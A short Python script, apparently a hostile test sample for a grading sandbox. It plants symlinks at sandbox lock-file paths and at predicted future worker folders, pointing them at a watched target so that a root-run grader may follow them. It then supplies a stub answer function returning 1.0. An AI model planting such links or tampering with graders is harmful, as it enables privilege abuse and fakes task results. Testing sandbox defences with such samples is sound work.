# Plants what a later grader or worker might open as root or use: links at the sandbox's
# lock files (old and new places) and at future workers' folders, pointing at a file the
# tests watch, plus a directory where the lock folder would go.
import os

TARGET = "/tmp/hw0-hostile-target"
planted = []
for path in [f"/tmp/.hw0-sandbox-{slot}.lock" for slot in range(256)] + [
        f"/run/hw0-sandbox/{slot}.lock" for slot in range(256)] + [
        f"/tmp/hw0-worker-{pid}" for pid in range(os.getpid() + 1, os.getpid() + 200)]:
    try:
        os.symlink(TARGET, path)
        planted.append(path)
    except OSError:
        pass
try:
    os.mkdir("/tmp/hw0-sandbox")
    planted.append("/tmp/hw0-sandbox")
except OSError:
    pass
print(f"planted_symlinks: {len(planted)} planted")


def max_stable_lr(F):
    return 1.0
